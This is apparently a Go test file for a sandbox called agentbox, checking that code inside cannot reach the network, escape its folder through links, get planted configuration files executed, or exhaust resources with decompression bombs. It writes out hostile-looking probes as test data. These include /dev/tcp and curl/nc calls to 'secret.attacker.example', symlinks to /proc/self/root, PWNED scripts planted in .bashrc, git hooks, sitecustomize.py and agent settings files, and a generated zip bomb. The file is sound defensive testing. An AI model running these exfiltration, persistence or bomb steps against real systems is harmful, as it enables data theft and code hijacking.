package nano

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"agentbox/internal/domain/space/spacetest"
)

// bothOn listens to packets and to connections on one port, which somebody else may have for one of them.
func bothOn(t *testing.T) (net.PacketConn, net.Listener) {
	t.Helper()
	var last error
	for range 20 {
		packets, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		connections, err := net.Listen("tcp", packets.LocalAddr().String())
		if err == nil {
			return packets, connections
		}
		last = err
		_ = packets.Close()
	}
	t.Fatal(last)
	return nil, nil
}

// TestThreat04NoNetwork has every program that could reach a name server or anything else try it: nothing arrives, on no port and in no
// form.
func TestThreat04NoNetwork(t *testing.T) {
	var arrived atomic.Int64
	packets, connections := bothOn(t)
	defer packets.Close()
	defer connections.Close()
	port := packets.LocalAddr().(*net.UDPAddr).Port
	go func() {
		for b := make([]byte, 1500); ; arrived.Add(1) {
			if _, _, err := packets.ReadFrom(b); err != nil {
				return
			}
		}
	}()
	go func() {
		for ; ; arrived.Add(1) {
			c, err := connections.Accept()
			if err != nil {
				return
			}
			_ = c.Close()
		}
	}()
	h := host(t)
	spec := h.Spec(t)
	spec.Limits.MemoryBytes = 256 << 20
	s := h.Create(t, spec)
	to := fmt.Sprintf("127.0.0.1:%d", port)
	for _, script := range []string{
		`nameserver=127.0.0.1; echo "nameserver 127.0.0.1" >/etc/resolv.conf; cat /etc/resolv.conf`,
		`for c in dig nslookup host getent ping curl wget nc ncat socat telnet ssh openssl ftp whois traceroute; do $c secret.attacker.example ` +
			to + `; done`,
		`exec 3<>/dev/tcp/127.0.0.1/` + fmt.Sprint(port) + `; echo secret >&3`,
		`echo secret >/dev/udp/127.0.0.1/` + fmt.Sprint(port),
		`curl -s http://` + to + `/secret; wget -qO- http://` + to,
		`python3 -c 'import socket; print(socket.getaddrinfo("secret.attacker.example", 80))'`,
		`python3 -c 'import socket; socket.create_connection(("127.0.0.1", ` + fmt.Sprint(port) + `))'`,
		`python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", ` + fmt.Sprint(port) + `))'`,
		`python3 -c 'import urllib.request; print(urllib.request.urlopen("http://` + to + `").read())'`,
		`node -e 'require("dns").lookup("secret.attacker.example", e => { if (!e) console.log("reached") })'`,
		`node -e 'fetch("http://` + to + `").then(() => console.log("reached"))'`,
		`node -e 'require("http").get("http://` + to + `", () => console.log("reached"))'`,
		`node -e 'const s = require("dgram").createSocket("udp4"); s.send("secret", ` + fmt.Sprint(port) +
			`, "127.0.0.1", e => { if (!e) console.log("reached") })'`,
	} {
		r, err := h.TryExec(t.Context(), s, spacetest.Shell(spec.ID, script))
		if err != nil || r.Code == 0 || r.Stdout != "" {
			t.Errorf("%s: got %+v, %v, want a failure", script, r, err)
		}
	}
	if n := arrived.Load(); n != 0 {
		t.Errorf("%d packets or connections arrived", n)
	}
}

// tree returns everything that is in a folder, with its content.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	all := map[string]string{}
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		content := d.Type().String()
		if d.Type().IsRegular() {
			b, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			info, err := d.Info()
			if err != nil {
				return err
			}
			sum := sha256.Sum256(b)
			content = info.Mode().String() + hex.EncodeToString(sum[:])
		}
		all[path] = content
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func same(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

// TestThreat18NothingOutsideOfTheFolder plants links to what lies outside, before a command and beside it: nothing of that is read
// through a link, and nothing is changed.
func TestThreat18NothingOutsideOfTheFolder(t *testing.T) {
	t.Parallel()
	h := host(t)
	spec := h.Spec(t)
	s := h.Create(t, spec)
	outside := filepath.Join(t.TempDir(), "outside")
	for path, content := range map[string]string{"secret": "the-secret", "d/secret": "the-secret", "d/e/secret": "the-secret"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(outside, path)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(outside, path), []byte(content), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	before := tree(t, outside)
	up := strings.Repeat("../", 20) + outside[1:]
	for name, target := range map[string]string{"l": outside + "/secret", "ld": outside, "up": up, "root": "/proc/self/root",
		"cwd": "/proc/self/cwd", "fd": "/proc/self/fd/0", "dots": ".."} {
		if err := os.Symlink(target, filepath.Join(spec.Dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Link(filepath.Join(outside, "d/secret"), filepath.Join(spec.Dir, "hard")); err != nil {
		t.Fatal(err)
	}
	for _, script := range []string{
		`cat l ld/secret up/secret up/d/secret root` + outside + `/secret cwd/secret dots/` + filepath.Base(outside) + `/secret ` + outside +
			`/secret ` + up + `/secret`,
		`find -L . -name secret; ls -R ld/ up/ root/ cwd/; grep -r the-secret . ld/; tar cf - . | tar tf - | grep /secret; cp -rL ld x; cat ` +
			`x/secret`,
		`python3 -c 'print(open("l").read())'; python3 -c 'import os; print(os.listdir("ld"))'; node -e ` +
			`'console.log(require("fs").readFileSync("ld/secret", "utf8"))'`,
	} {
		r := h.Exec(t, s, spacetest.Shell(spec.ID, "{ "+script+"; } 2>/dev/null | grep -v '^./hard'; true"))
		if strings.Contains(r.Stdout, "the-secret") || strings.Contains(r.Stdout, "secret\n") {
			t.Errorf("%s: got %q", script, r.Stdout)
		}
	}
	for _, script := range []string{
		`echo changed >l; echo changed >ld/secret; echo changed >up/new; mkdir ld/new; rm ld/secret up/d/secret; mv ld/d x; ln l ld/l2; chmod ` +
			`777 ld/secret; touch up/secret; truncate -s 0 l`,
		`echo changed >hard`, `chmod 777 hard; touch -d @1 hard; rm hard`,
		`rm -rf ld/ up/ root/ cwd/ dots/; rm -rf l ld up root cwd dots`,
	} {
		h.Exec(t, s, spacetest.Shell(spec.ID, script))
		if after := tree(t, outside); !same(before, after) {
			t.Fatalf("%s: outside there is %v now, and was %v", script, after, before)
		}
	}
	// Another process exchanges a folder for a link, over and over.
	if err := os.MkdirAll(filepath.Join(spec.Dir, "d/e"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(spec.Dir, "d/secret"), []byte("mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	exchanged := make(chan int)
	go func() {
		n := 0
		d, aside := filepath.Join(spec.Dir, "d"), filepath.Join(spec.Dir, "aside")
		for ; ctx.Err() == nil; n++ {
			if os.Rename(d, aside) == nil {
				_ = os.Symlink(filepath.Join(outside, "d"), d)
				_ = os.Remove(d)
				_ = os.Rename(aside, d)
			}
		}
		exchanged <- n
	}()
	for i := range 100 {
		r, err := h.TryExec(t.Context(), s, spacetest.Shell(spec.ID,
			fmt.Sprintf(`cat d/secret d/e/secret; echo %d >d/new; echo %d >d/secret; mkdir -p d/e/%d; rm -f d/e/secret; chmod 700 d/e`, i, i, i)))
		if strings.Contains(r.Stdout, "the-secret") {
			t.Fatalf("run %d: it read %q (%v)", i, r.Stdout, err)
		}
	}
	cancel()
	t.Logf("the folder was exchanged %d times", <-exchanged)
	if after := tree(t, outside); !same(before, after) {
		t.Errorf("outside there is %v now, and was %v", after, before)
	}
}

// configurations are files that programs of other systems execute or obey when they lie in the right place.
var configurations = []string{
	".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".shrc", ".zshrc", ".zshenv", ".inputrc", ".env", ".envrc",
	".editorconfig", ".npmrc", ".yarnrc.yml", ".pnp.cjs",
	".gitconfig", ".git/config", ".git/hooks/pre-commit", ".git/hooks/post-checkout", ".config/git/config", ".ssh/config",
	".ssh/authorized_keys", ".netrc", ".curlrc", ".wgetrc",
	".pythonrc.py", "sitecustomize.py", "usercustomize.py", "pyvenv.cfg", "python.pth", ".local/lib/python3.13/site-packages/x.pth",
	".local/lib/python3.13/site-packages/usercustomize.py",
	".pdbrc", "conftest.py", "setup.cfg", "pyproject.toml", "encodings/__init__.py", "encodings.py", "site.py", "os.py",
	"__pycache__/os.cpython-313.pyc", "codecs.py", "io.py",
	"node_modules/fs/index.js", "node_modules/path/index.js", "node_modules/.hooks/x", ".node_repl_history", "package.json", "bunfig.toml",
	"deno.json", "tsconfig.json", ".babelrc",
	".noderc", "index.js", ".jq", ".jq/jq", ".awkrc", ".sedrc", ".bcrc", ".lesskey", ".exrc", ".vimrc", ".nanorc", ".dircolors", ".toprc",
	".rgignore", ".ripgreprc",
	"agentbox.json", "agentbox.toml", ".agentbox/config.json", ".agentbox/hooks/pre", ".claude/settings.json", ".cursor/mcp.json", ".mcp.json",
	".vscode/settings.json",
	"AGENTS.md", "CLAUDE.md", "Makefile", ".gitattributes", ".gitmodules", "a.wasm", "ls", "cat", "python3", "node", "sh", "bash",
}

// TestThreat19NoFileIsAConfiguration has code write what programs obey elsewhere: the daemon's own files stay what they are, and no later
// command executes any of it.
func TestThreat19NoFileIsAConfiguration(t *testing.T) {
	t.Parallel()
	h := host(t)
	spec := h.Spec(t)
	spec.Limits.MemoryBytes = 256 << 20
	s := h.Create(t, spec)
	clean := []spacetest.Command{}
	for _, argv := range [][]string{
		{"bash", "-c", "true"}, {"bash", "-lc", "true"}, {"bash", "-ic", "true"}, {"sh", "-c", "ls / >/dev/null; cat /etc/hosts >/dev/null"},
		{"python3", "-c", "pass"}, {"python3", "-c", "import os, json, re"},
		{"node", "-e", "0"}, {"node", "-e", "require('fs'); require('path')"}, {"bun", "-e", "0"}, {"js", "-e", "0"}, {"jq", "-n", "empty"},
		{"awk", "BEGIN {}"}, {"sed", "-n", "", "/etc/hosts"},
		{"bash", "-c", "echo | bc; find /etc >/dev/null; grep -q x /etc/hosts; ls >/dev/null; git status >/dev/null 2>&1; make >/dev/null " +
			"2>&1; true"},
	} {
		clean = append(clean, spacetest.Command{Space: spec.ID, Argv: argv, MS: 60_000, Env: map[string]string{"AGENTBOX_SEED": "s",
			"AGENTBOX_CLOCK": "2026-01-02T03:04:05Z"}})
	}
	var first []string
	for _, c := range clean {
		r := h.Exec(t, s, c)
		first = append(first, fmt.Sprintf("%d %q %q", r.Code, r.Stdout, r.Stderr))
	}
	settled := h.Tier.(*Tier).o.Cache
	cache := tree(t, settled)
	var script strings.Builder
	for _, dir := range []string{"/workspace", "/tmp/home", "/tmp", "/", "/etc", "/root", "/usr/lib/python3.13",
		"/usr/local/lib/python3.13/site-packages"} {
		for _, name := range configurations {
			fmt.Fprintf(&script, "mkdir -p $(dirname %[1]s/%[2]s); printf '#!/bin/sh\\necho PWNED\\nprint(\"PWNED\")\\n' >%[1]s/%[2]s && chmod "+
				"755 %[1]s/%[2]s\n", dir, name)
		}
	}
	script.WriteString("export BASH_ENV=/workspace/.bashrc ENV=/workspace/.bashrc PYTHONSTARTUP=/workspace/os.py NODE_OPTIONS='-r " +
		"/workspace/index.js'; exec 2>/dev/null; true")
	if r := h.Exec(t, s, spacetest.Shell(spec.ID, "exec 2>/dev/null; "+script.String())); r.Code != 0 {
		t.Fatalf("got %+v", r)
	}
	if _, err := os.Stat(filepath.Join(spec.Dir, "sitecustomize.py")); err != nil {
		t.Fatal(err)
	}
	for i, c := range clean {
		r := h.Exec(t, s, c)
		if got := fmt.Sprintf("%d %q %q", r.Code, r.Stdout, r.Stderr); got != first[i] || strings.Contains(got, "PWNED") {
			t.Errorf("%q: got %s, and before %s", c.Argv, got, first[i])
		}
	}
	other := h.Spec(t)
	o := h.Create(t, other)
	if r := h.Exec(t, o, spacetest.Shell(other.ID, "ls -A /workspace /tmp /tmp/home /etc; ls -A / | head -n 20")); strings.Contains(r.Stdout,
		"bashrc") || strings.Contains(r.Stdout, "site") {
		t.Errorf("another space finds %q", r.Stdout)
	}
	after := tree(t, settled)
	for path, was := range cache {
		if now := after[path]; now != was && strings.HasSuffix(path, ".image") {
			t.Errorf("%s has changed", path)
		}
	}
}

// TestThreat33BombsAreBounded has archives unpacked that hold a thousand times and more of what they are.
func TestThreat33BombsAreBounded(t *testing.T) {
	t.Parallel()
	h := host(t)
	var zeroes bytes.Buffer // 64 MiB
	w, _ := gzip.NewWriterLevel(&zeroes, gzip.BestCompression)
	if _, err := w.Write(make([]byte, 64<<20)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	var bomb bytes.Buffer // an archive of 100 files of 64 MiB
	z := zip.NewWriter(&bomb)
	raw := zeroes.Bytes()[10 : zeroes.Len()-8]
	for i := range 100 {
		f, err := z.CreateRaw(&zip.FileHeader{Name: fmt.Sprint(i), Method: zip.Deflate, CompressedSize64: uint64(len(raw)),
			UncompressedSize64: 64 << 20})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(raw); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	for _, x := range []struct {
		name    string
		content []byte
		scripts []string
	}{
		{"f.gz", bytes.Repeat(zeroes.Bytes(), 160), []string{ // 10 GiB
			`gunzip f.gz`, `gzip -dc f.gz >f`, `zcat f.gz | sort`, `x=$(zcat f.gz)`, `tar xzf f.gz; false`, `zcat f.gz | jq .`, `zcat f.gz`,
			`python3 -c 'import gzip; gzip.open("f.gz").read()'`, `node -e 'require("zlib").gunzipSync(require("fs").readFileSync("f.gz"))'`,
			`gzip -t f.gz`, `gunzip -l f.gz`,
		}},
		{"f.zip", bomb.Bytes(), []string{`unzip f.zip`, `unzip -p f.zip | sort`, `python3 -m zipfile -e f.zip .`,
			`python3 -c 'import zipfile; zipfile.ZipFile("f.zip").read("1")'`, `unzip -t f.zip`}},
	} {
		spec := h.Spec(t)
		if err := os.WriteFile(filepath.Join(spec.Dir, x.name), x.content, 0o644); err != nil {
			t.Fatal(err)
		}
		s := h.Create(t, spec)
		for _, script := range x.scripts {
			c := spacetest.Shell(spec.ID, script)
			c.MS = 20_000
			r, err := h.TryExec(t.Context(), s, c)
			if err != nil || r.Code == 0 || len(r.Stdout) > int(spec.Limits.OutputBytes) {
				t.Errorf("%s: got code %d, %d bytes, %v, want an end by a bound", script, r.Code, len(r.Stdout), err)
			}
			if r.TimedOut {
				t.Errorf("%s: only its time has ended it", script)
			}
			used, _, err := measure(t.Context(), spec.Dir)
			if err != nil || used > spec.Limits.DiskBytes {
				t.Errorf("%s: %d bytes are left, %v", script, used, err)
			}
			t.Logf("%s: code %d, limit %q, timed out %t, %s, stderr %.80q", script, r.Code, r.Limit, r.TimedOut, r.Duration, r.Stderr)
			if err := os.WriteFile(filepath.Join(spec.Dir, x.name), x.content, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	if most := workersMemory(); most > 1<<30 {
		t.Errorf("a worker held %d MiB", most>>20)
	}
	t.Logf("a worker held %d MiB at most", workersMemory()>>20)
}
